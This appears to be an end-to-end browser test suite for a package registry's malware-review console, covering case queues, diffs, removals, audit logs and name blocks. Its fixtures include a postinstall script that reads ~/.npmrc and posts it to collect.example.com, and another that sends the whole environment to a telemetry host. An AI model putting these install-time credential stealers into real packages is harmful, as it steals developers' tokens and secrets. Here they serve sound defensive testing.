// The security console in a real Chromium against a listening registry: sign in, work held cases, read the audit log.
import { createHash } from 'node:crypto'
import { mkdirSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createUser } from '../../src/accounts/service.ts'
import { CLI } from '../../src/accounts/types.ts'
import { startListeningRegistry, type ListeningRegistry } from '../helpers/server.ts'
import { buildConsole } from '../helpers/console-build.ts'
import { launchPage, signIn as signInAs, type TestBrowser } from '../helpers/browser.ts'

const SHOTS = fileURLToPath(new URL('../../test-artifacts/console/', import.meta.url))
const PASSWORD = 'correct-horse-battery'

/** A plain library: the version reviewers compare the takeover against. */
const LIBRARY = { 'index.js': 'module.exports = (a, b) => a + b\n' }

/** A takeover release: a new postinstall reads the user's npm credentials and posts them to a collection host. */
const NPMRC_STEALER = {
  files: {
    'index.js': 'module.exports = (a, b) => a + b\n',
    'install.js': `const fs = require('fs')
const os = require('os')
const path = require('path')
const https = require('https')
const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')
const req = https.request({ hostname: 'collect.example.com', path: '/npmrc', method: 'POST' })
req.write(rc)
req.end()
`,
  },
  manifest: { scripts: { postinstall: 'node install.js' } },
}

/** "Install telemetry" that sends the whole environment home: held, and in this story judged legitimate. */
const TELEMETRY = {
  files: {
    'setup.js': `const https = require('https')
const req = https.request({ hostname: 'telemetry.example.com', path: '/install', method: 'POST' })
req.write(JSON.stringify(process.env))
req.end()
`,
  },
  manifest: { scripts: { postinstall: 'node setup.js' } },
}

const REMOVE_REASON = 'postinstall posts ~/.npmrc to collect.example.com'
const DISMISS_REASON = 'vendor telemetry, confirmed with the maintainer'

describe('the security console in Chromium (sqlite)', () => {
  let r: ListeningRegistry
  let browser: TestBrowser
  let page: Page
  let consoleUrl: string

  beforeAll(async () => {
    await buildConsole()
    mkdirSync(SHOTS, { recursive: true })
    r = await startListeningRegistry('sqlite')
    consoleUrl = `${r.url}-/console/`
    const publisher = await r.user('alice')
    await createUser(r.deps, { name: 'rita', email: 'rita@example.com', password: PASSWORD, role: 'reviewer' }, CLI())
    await createUser(r.deps, { name: 'victor', email: 'victor@example.com', password: PASSWORD, role: 'admin' }, CLI())
    await createUser(r.deps, { name: 'ursula', email: 'ursula@example.com', password: PASSWORD }, CLI())

    expect((await r.publish(publisher, 'console-takeover', '1.0.0', { files: LIBRARY })).statusCode).toBe(201)
    await r.settle()
    expect((await r.publish(publisher, 'console-takeover', '1.0.1', NPMRC_STEALER)).statusCode).toBe(201)
    expect((await r.publish(publisher, 'console-telemetry', '1.0.0', TELEMETRY)).statusCode).toBe(201)
    await r.settle()

    ;({ browser, page } = await launchPage())
  }, 180_000)

  afterAll(async () => {
    await browser?.close()
    await r?.close()
  })

  const signIn = (name: string) => signInAs(page, name, PASSWORD)

  const textOf = async (selector: ReturnType<Page['getByRole']>) => (await selector.innerText()).replace(/\s+/g, ' ')

  it('shows a user without the reviewer role only their own packages', async () => {
    await page.goto(consoleUrl)
    await signIn('ursula')
    await page.getByRole('heading', { name: 'My packages' }).waitFor()
    const nav = page.getByRole('navigation', { name: 'Main' })
    expect(await nav.getByRole('link').allInnerTexts()).toEqual(['My packages'])
    // The review desk's data stays closed to them on the server, whatever the browser asks.
    const answer = await page.evaluate(`(async () => {
      const { token } = JSON.parse(sessionStorage.getItem('gatehouse.console.session') ?? '{}')
      return (await fetch('/-/api/v1/review/cases', { headers: { authorization: 'Bearer ' + token } })).status
    })()`)
    expect(answer).toBe(403)
    await page.getByRole('button', { name: 'Sign out' }).click()
  })

  it('signs a reviewer in and lists the held cases, riskiest first', async () => {
    await page.goto(consoleUrl)
    await signIn('rita')
    const table = page.getByRole('table', { name: 'Cases' })
    await table.waitFor()
    const rows = table.getByRole('row')
    await expect.poll(() => rows.count()).toBe(3)
    const text = await textOf(table)
    expect(text).toContain('console-takeover')
    expect(text).toContain('console-telemetry')
    expect(text).toMatch(/1\.0\.1 held/)
    // The token lives in sessionStorage, not in a cookie or localStorage.
    expect(await page.evaluate('Object.keys(sessionStorage)')).toEqual(['gatehouse.console.session'])
    expect(await page.evaluate('localStorage.length')).toBe(0)
    await page.screenshot({ path: `${SHOTS}queue.png`, fullPage: true })

    await page.getByRole('button', { name: /Claim case \d+ \(console-telemetry\)/ }).click()
    await expect.poll(async () => textOf(table.getByRole('row').filter({ hasText: 'console-telemetry' }))).toContain('rita')
  })

  it('opens the held case with its signals, code excerpts, files and diff', async () => {
    await page.getByRole('link', { name: /console-takeover/ }).first().click()
    await page.getByRole('heading', { level: 1, name: /console-takeover/ }).waitFor()
    const signals = page.getByRole('list', { name: 'Signals' })
    await signals.waitFor()
    const text = await textOf(signals)
    expect(text).toContain('exfiltrates-credentials')
    expect(text).toContain('install-time-network')
    expect(text).toMatch(/install\.js:7/)
    expect(text).toContain("hostname: 'collect.example.com'")
    expect(await page.getByRole('list', { name: 'Verdict reasons' }).innerText()).not.toBe('')

    // The file tree and viewer.
    await page.getByRole('button', { name: 'Open install.js' }).click()
    const viewer = page.getByRole('table', { name: 'Contents of install.js' })
    await viewer.waitFor()
    expect(await viewer.innerText()).toContain("fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')")

    // A signal's location opens the viewer at its line.
    await signals.getByRole('button', { name: 'install.js:7' }).first().click()
    await expect.poll(async () => (await viewer.locator('tr.hit').innerText()).replace(/\s+/g, ' ')).toMatch(/^7 req\.write\(rc\)/)

    // The diff against 1.0.0: the install script is new.
    const diff = page.getByRole('region', { name: 'Changes in 1.0.1' })
    await diff.getByText('Compared with 1.0.0').waitFor()
    expect(await textOf(diff)).toMatch(/added install\.js/)
    expect(await diff.locator('.dl.add').filter({ hasText: '+req.write(rc)' }).count()).toBe(1)
    await page.screenshot({ path: `${SHOTS}case.png`, fullPage: true })
  })

  it('demands a reason before removing, then removes the held version', async () => {
    const form = page.getByRole('form', { name: 'Remove as malicious' })
    await form.getByLabel('Reason').fill('bad')
    await form.getByRole('button', { name: 'Remove' }).click()
    expect(await form.getByRole('alert').innerText()).toMatch(/at least 10 characters/)

    // The case holds only the takeover release, picked by default; 1.0.0 stays installable.
    const versions = form.getByRole('group', { name: 'Versions to remove' }).getByRole('checkbox')
    expect(await versions.count()).toBe(1)
    expect(await form.getByRole('checkbox', { name: /1\.0\.1 \(held\)/ }).isChecked()).toBe(true)
    await form.getByRole('checkbox', { name: 'Reserve the name' }).check()
    await form.getByLabel('Reason').fill(REMOVE_REASON)
    await form.getByRole('button', { name: 'Remove' }).click()
    const status = page.getByRole('status').filter({ hasText: 'Removed' })
    await status.waitFor()
    expect(await status.innerText()).toMatch(/Removed 1\.0\.1: advisory GATEHOUSE-MAL-/)
    await expect.poll(async () => textOf(page.getByRole('table', { name: 'Versions in this case' }))).toMatch(/1\.0\.1 removed/)
    await page.getByRole('region', { name: 'Timeline' }).getByText('removed', { exact: true }).waitFor()

    // The removed archive stays available to reviewers, as a download with its hash.
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Forensic archive' }).click()])
    expect(download.suggestedFilename()).toMatch(/console-takeover-1\.0\.1\.tgz$/)
    const saved = await download.path()
    const sha256 = createHash('sha256').update(readFileSync(saved)).digest('hex')
    expect(await page.getByRole('status').filter({ hasText: 'forensic archive' }).innerText()).toContain(sha256)
  })

  it('dismisses the other case as legitimate', async () => {
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Queue' }).click()
    await page.getByRole('link', { name: /console-telemetry/ }).click()
    await page.getByRole('heading', { level: 1, name: /console-telemetry/ }).waitFor()
    const form = page.getByRole('form', { name: 'Dismiss as legitimate' })
    await form.getByLabel('Reason').fill(DISMISS_REASON)
    await form.getByRole('button', { name: 'Dismiss and publish' }).click()
    await page.getByRole('status').filter({ hasText: 'Dismissed' }).waitFor()
    await expect.poll(async () => textOf(page.getByRole('table', { name: 'Versions in this case' }))).toMatch(/1\.0\.0 published/)
    expect(await textOf(page.getByRole('region', { name: 'Decision' }))).toMatch(/as legitimate/)
  })

  it('shows both decisions with their reasons in the audit log, and filters it', async () => {
    await page.getByRole('link', { name: 'Audit log' }).click()
    const table = page.getByRole('table', { name: 'Audit entries' })
    await table.waitFor()
    const dismissed = table.getByRole('row').filter({ hasText: 'case.dismiss' })
    const removed = table.getByRole('row').filter({ hasText: 'removal.execute' })
    expect(await textOf(dismissed)).toContain(DISMISS_REASON)
    expect(await textOf(removed)).toContain(REMOVE_REASON)
    expect(await textOf(dismissed)).toContain('user:rita')
    await page.screenshot({ path: `${SHOTS}audit-log.png`, fullPage: true })

    await page.getByLabel('Action').fill('case.dismiss')
    await page.getByRole('button', { name: 'Filter' }).click()
    await expect.poll(() => table.getByRole('row').count()).toBe(2)
    expect(await textOf(table)).toContain(DISMISS_REASON)
    expect(new URL(page.url()).search).toBe('?action=case.dismiss')
  })

  it("adds and lifts a name block, showing the server's refusals", async () => {
    await page.getByRole('link', { name: 'Name blocks' }).click()
    const form = page.getByRole('form', { name: 'Add a name block' })
    await form.getByLabel('Kind').selectOption('glob')
    await form.getByLabel('Pattern').fill('console-typo')
    await form.getByLabel('Reason').fill('typosquats of the console packages')
    await form.getByRole('button', { name: 'Add block' }).click()
    // The client lets it through; the registry refuses a glob without a wildcard, and says why.
    expect(await form.getByRole('alert').innerText()).toMatch(/a glob pattern needs \* or \?/)

    await form.getByLabel('Pattern').fill('console-typo*')
    await form.getByRole('button', { name: 'Add block' }).click()
    const table = page.getByRole('table', { name: 'Name blocks' })
    await table.getByText('console-typo*').waitFor()
    expect(await textOf(table)).toMatch(/npm glob console-typo\* typosquats of the console packages rita/)
    // The removal reserved its package's name too.
    expect(await textOf(table)).toContain('console-takeover')
    await page.screenshot({ path: `${SHOTS}name-blocks.png`, fullPage: true })

    await page.getByRole('button', { name: 'Lift the block on console-typo*' }).click()
    const lift = page.getByRole('form', { name: 'Lift the block on console-typo*' })
    await lift.getByLabel('Reason').fill('blocked the wrong prefix by mistake')
    await lift.getByRole('button', { name: 'Lift block' }).click()
    await page.getByRole('status').filter({ hasText: 'Lifted the block on console-typo*' }).waitFor()
    await expect.poll(async () => textOf(table)).not.toContain('console-typo*')
  })

  it('lists the removal and restores it with a reason', async () => {
    await page.getByRole('link', { name: 'Removals' }).click()
    const table = page.getByRole('table', { name: 'Removals' })
    await table.waitFor()
    expect(await textOf(table)).toMatch(/npm console-takeover 1\.0\.1 done name reserved/i)
    expect(await textOf(table)).toContain(REMOVE_REASON)
    await page.screenshot({ path: `${SHOTS}removals.png`, fullPage: true })

    await page.getByRole('button', { name: /^Restore GATEHOUSE-MAL-/ }).click()
    const form = page.getByRole('form', { name: /^Restore GATEHOUSE-MAL-/ })
    await form.getByLabel('Reason').fill('the maintainer rotated the token; 1.0.1 was rebuilt clean')
    await form.getByRole('button', { name: 'Restore' }).click()
    await page.getByRole('status').filter({ hasText: 'Restored console-takeover' }).waitFor()
    await expect.poll(async () => textOf(table)).toMatch(/restored/)
  })

  it('signs out and revokes the token', async () => {
    const token = await page.evaluate<string | undefined>("JSON.parse(sessionStorage.getItem('gatehouse.console.session') ?? '{}').token")
    expect(token).toBeTruthy()
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByRole('form', { name: 'Sign in' }).waitFor()
    expect(await page.evaluate('sessionStorage.length')).toBe(0)
    const res = await fetch(`${r.url}-/api/v1/session`, { headers: { authorization: `Bearer ${token}` } })
    expect(res.status).toBe(401)
  })

  it('a removal in doubt waits for a second reviewer, who confirms it', async () => {
    const publisher = await r.user('bob')
    expect((await r.publish(publisher, 'console-dropper', '1.0.0', NPMRC_STEALER)).statusCode).toBe(201)
    await r.settle()

    await signIn('rita')
    // Signing in keeps the page one was on; the queue is one click away.
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Queue' }).click()
    await page.getByRole('link', { name: /console-dropper/ }).click()
    const form = page.getByRole('form', { name: 'Remove as malicious' })
    await form.getByRole('checkbox', { name: /in doubt/ }).check()
    await form.getByLabel('Reason').fill('looks like a credential stealer, want a second pair of eyes')
    await form.getByRole('button', { name: 'Propose removal' }).click()
    await page.getByRole('status').filter({ hasText: 'waits for a second reviewer' }).waitFor()
    const pending = page.getByRole('region', { name: 'Pending removal' })
    expect(await textOf(pending)).toMatch(/rita proposed removing 1\.0\.0/)
    // The proposer may withdraw but not confirm their own removal.
    expect(await page.getByRole('form', { name: 'Confirm the removal' }).count()).toBe(0)
    await page.getByRole('form', { name: 'Decline the removal' }).waitFor()
    await page.getByRole('button', { name: 'Sign out' }).click()

    await signIn('victor')
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Queue' }).click()
    await page.getByLabel('Status').selectOption('awaiting-second')
    await page.getByRole('link', { name: /console-dropper/ }).click()
    const confirm = page.getByRole('form', { name: 'Confirm the removal' })
    await confirm.getByLabel('Reason').fill('agreed: reads ~/.npmrc and posts it out')
    await confirm.getByRole('button', { name: 'Confirm removal' }).click()
    await page.getByRole('status').filter({ hasText: 'Removal confirmed' }).waitFor()
    await expect.poll(async () => textOf(page.getByRole('table', { name: 'Versions in this case' }))).toMatch(/1\.0\.0 removed/)
  })

  it('serves the SPA for deep links and a strict content security policy', async () => {
    const res = await fetch(`${consoleUrl}cases/1`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-security-policy')).toContain("default-src 'self'")
    expect(await res.text()).toContain('<div id="app">')
    expect((await fetch(`${consoleUrl}assets/missing.js`)).status).toBe(404)
  })
})
